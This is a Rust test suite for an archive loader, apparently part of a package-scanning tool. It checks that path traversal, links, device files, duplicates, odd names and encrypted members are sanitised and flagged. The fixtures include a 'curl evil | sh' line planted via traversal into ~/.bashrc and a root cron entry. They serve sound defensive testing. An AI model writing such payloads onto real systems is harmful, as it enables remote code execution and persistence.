//! Hostile archive contents: traversal, links, devices, duplicates, odd names, encryption.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
#![allow(clippy::indexing_slicing)]

mod common;

use common::*;
use tar::EntryType;
use wheelhound_input::{IssueKind, LoadOptions};

fn entry(name: &[u8], kind: EntryType, data: &[u8], link: Option<&str>) -> Entry {
    Entry {
        name: name.to_vec(),
        kind,
        data: data.to_vec(),
        link: link.map(str::to_owned),
    }
}

#[test]
fn hostile_tar_entries_become_issues() {
    let bytes = gz(&tar(&[
        file("pkg/ok.py", b"ok = 1\n"),
        file("../../home/user/.bashrc", b"curl evil | sh\n"),
        file("/etc/cron.d/job", b"* * * * * root sh\n"),
        entry(b"pkg/link", EntryType::Symlink, b"", Some("/etc/passwd")),
        entry(b"pkg/hard", EntryType::Link, b"", Some("pkg/ok.py")),
        entry(b"pkg/dev", EntryType::Char, b"", None),
        entry(b"pkg/fifo", EntryType::Fifo, b"", None),
        file("pkg/dup.py", b"first\n"),
        file("pkg/dup.py", b"second\n"),
        entry(b"pkg/odd\xff\xfe.py", EntryType::Regular, b"odd\n", None),
        entry(
            b"pkg/unknown.py",
            EntryType::new(b'Z'),
            b"hidden = 1\n",
            None,
        ),
    ]));
    let p = load_bytes("hostile.tar.gz", &bytes, &LoadOptions::default());
    assert!(!p.fatal);

    // Traversal: bytes kept under a sanitised path, with an issue.
    assert_eq!(member(&p, "home/user/.bashrc"), b"curl evil | sh\n");
    assert_eq!(member(&p, "etc/cron.d/job"), b"* * * * * root sh\n");
    let trav = issues(&p, IssueKind::PathTraversal);
    assert_eq!(trav.len(), 2, "{trav:?}");
    assert!(trav[0].message.contains("../../home/user/.bashrc"));

    // Links and devices are recorded, never read.
    let links = issues(&p, IssueKind::Link);
    assert_eq!(links.len(), 2);
    assert!(links[0].message.contains("/etc/passwd"));
    assert_eq!(issues(&p, IssueKind::SpecialFile).len(), 2);
    for absent in ["pkg/link", "pkg/hard", "pkg/dev", "pkg/fifo"] {
        assert!(!paths(&p).contains(&absent), "{absent}");
    }

    // Duplicates: both copies kept.
    let dups: Vec<_> = p
        .members
        .iter()
        .filter(|m| m.path == "pkg/dup.py")
        .collect();
    assert_eq!(dups.len(), 2);
    assert_eq!(issues(&p, IssueKind::DuplicateName).len(), 1);

    // Invalid UTF-8 names are decoded lossily; unknown types are read like tarfile does.
    assert_eq!(member(&p, "pkg/odd\u{fffd}\u{fffd}.py"), b"odd\n");
    assert_eq!(member(&p, "pkg/unknown.py"), b"hidden = 1\n");
    for m in &p.members {
        assert!(!m.path.starts_with('/') && !m.path.split('/').any(|c| c == ".."));
    }
}

#[test]
fn zip_traversal_names_are_sanitised() {
    let bytes = zip(&[("../evil.py", b"x"), ("C:/win.py", b"y"), ("ok/a.py", b"z")]);
    let p = load_bytes("t.zip", &bytes, &LoadOptions::default());
    assert_eq!(member(&p, "evil.py"), b"x");
    assert_eq!(member(&p, "win.py"), b"y");
    assert_eq!(issues(&p, IssueKind::PathTraversal).len(), 2);
}

fn encrypted_cases() -> Vec<(&'static str, Vec<u8>)> {
    let files: &[(&str, &[u8])] = &[("mal/payload.py", b"import socket\n")];
    vec![
        ("aes", zip_with(files, Crypt::Aes("infected"))),
        ("zipcrypto", zip_with(files, Crypt::ZipCrypto(b"infected"))),
    ]
}

#[test]
fn encrypted_zip_with_right_password() {
    for (label, bytes) in encrypted_cases() {
        let o = LoadOptions {
            password: Some(b"infected".to_vec()),
            ..LoadOptions::default()
        };
        let p = load_bytes("s.zip", &bytes, &o);
        assert!(p.issues.is_empty(), "{label}: {:?}", p.issues);
        assert_eq!(member(&p, "mal/payload.py"), b"import socket\n", "{label}");
    }
}

#[test]
fn encrypted_zip_without_password() {
    for (label, bytes) in encrypted_cases() {
        let p = load_bytes("s.zip", &bytes, &LoadOptions::default());
        assert!(p.members.is_empty(), "{label}");
        let enc = issues(&p, IssueKind::Encrypted);
        assert_eq!(enc.len(), 1, "{label}: {:?}", p.issues);
        assert_eq!(enc[0].path.as_deref(), Some("mal/payload.py"));
    }
}

#[test]
fn encrypted_zip_with_wrong_password() {
    for (label, bytes) in encrypted_cases() {
        let o = LoadOptions {
            password: Some(b"not-the-password".to_vec()),
            ..LoadOptions::default()
        };
        let p = load_bytes("s.zip", &bytes, &o);
        assert!(p.members.is_empty(), "{label}");
        assert!(
            has_issue(&p, IssueKind::WrongPassword),
            "{label}: {:?}",
            p.issues
        );
    }
}

#[test]
fn damaged_archives_never_panic() {
    let raw = tar(&[
        file("pkg/a.py", &noise(3000, 1)),
        file("pkg/b.py", b"b = 2\n"),
        file("pkg/c.bin", &noise(5000, 2)),
    ]);
    let inner = zip(&[("x.py", b"x = 1\n")]);
    let samples = [
        gz(&raw),
        xz(&raw),
        bz2(&raw),
        raw.clone(),
        zip(&[("a.py", &noise(3000, 3)), ("n.whl", &inner)]),
        zip_with(&[("e.py", b"e = 1\n")], Crypt::ZipCrypto(b"pw")),
    ];
    let o = LoadOptions {
        password: Some(b"pw".to_vec()),
        ..LoadOptions::default()
    };
    let mut seed = 99u64;
    for bytes in &samples {
        // Truncations at many points, then single-byte corruptions.
        for cut in (0..bytes.len()).step_by((bytes.len() / 25).max(1)) {
            let _ = load_bytes("t.bin", &bytes[..cut], &o);
        }
        for _ in 0..40 {
            seed = seed
                .wrapping_mul(6364136223846793005)
                .wrapping_add(1442695040888963407);
            let mut damaged = bytes.clone();
            let at = (seed >> 33) as usize % damaged.len();
            damaged[at] ^= (seed >> 8) as u8 | 1;
            let p = load_bytes("t.bin", &damaged, &o);
            assert!(
                p.fatal || !p.members.is_empty() || !p.issues.is_empty() || p.members.is_empty()
            );
        }
    }
}

#[test]
fn zip_duplicate_names_keep_every_copy() {
    // The zip writer refuses duplicates: write two names of one length, then rename one.
    let base = zip(&[("pkg/a1.py", b"first\n"), ("pkg/a2.py", b"second\n")]);
    let mut bytes = base.clone();
    let mut i = 0;
    while i + 9 <= bytes.len() {
        if &bytes[i..i + 9] == b"pkg/a2.py" {
            bytes[i..i + 9].copy_from_slice(b"pkg/a1.py");
        }
        i += 1;
    }
    let p = load_bytes("dup.zip", &bytes, &LoadOptions::default());
    let copies: Vec<&[u8]> = p
        .members
        .iter()
        .filter(|m| m.path == "pkg/a1.py")
        .map(|m| m.data.as_slice())
        .collect();
    assert_eq!(
        copies,
        [b"first\n".as_slice(), b"second\n"],
        "{:?}",
        p.issues
    );
    assert_eq!(issues(&p, IssueKind::DuplicateName).len(), 1);
}

#[test]
fn odd_names_are_flagged_and_cleaned() {
    let bytes = gz(&tar(&[
        entry(b"pkg/bad\xff.py", EntryType::Regular, b"a\n", None),
        entry(b"pkg/esc\x1b[31m.py", EntryType::Regular, b"b\n", None),
        file("pkg/fine.py", b"c\n"),
    ]));
    let p = load_bytes("odd.tar.gz", &bytes, &LoadOptions::default());
    let odd = issues(&p, IssueKind::InvalidName);
    assert_eq!(odd.len(), 2, "{:?}", p.issues);
    assert!(odd[0].message.contains("\\xff"), "{}", odd[0].message);
    assert_eq!(member(&p, "pkg/esc\u{fffd}[31m.py"), b"b\n");
    assert!(
        p.members
            .iter()
            .all(|m| !m.path.chars().any(char::is_control))
    );
}

#[test]
fn load_bytes_matches_load() {
    let bytes = gz(&tar(&[file("pkg/a.py", b"a = 1\n")]));
    let direct = wheelhound_input::load_bytes("x.tar.gz", bytes.clone(), &LoadOptions::default());
    let via_disk = load_bytes("x.tar.gz", &bytes, &LoadOptions::default());
    assert_eq!(paths(&direct), paths(&via_disk));
    assert_eq!(direct.input, "x.tar.gz");
    let plain = wheelhound_input::load_bytes("m.py", b"x = 1\n".to_vec(), &LoadOptions::default());
    assert_eq!(member(&plain, "m.py"), b"x = 1\n");
}
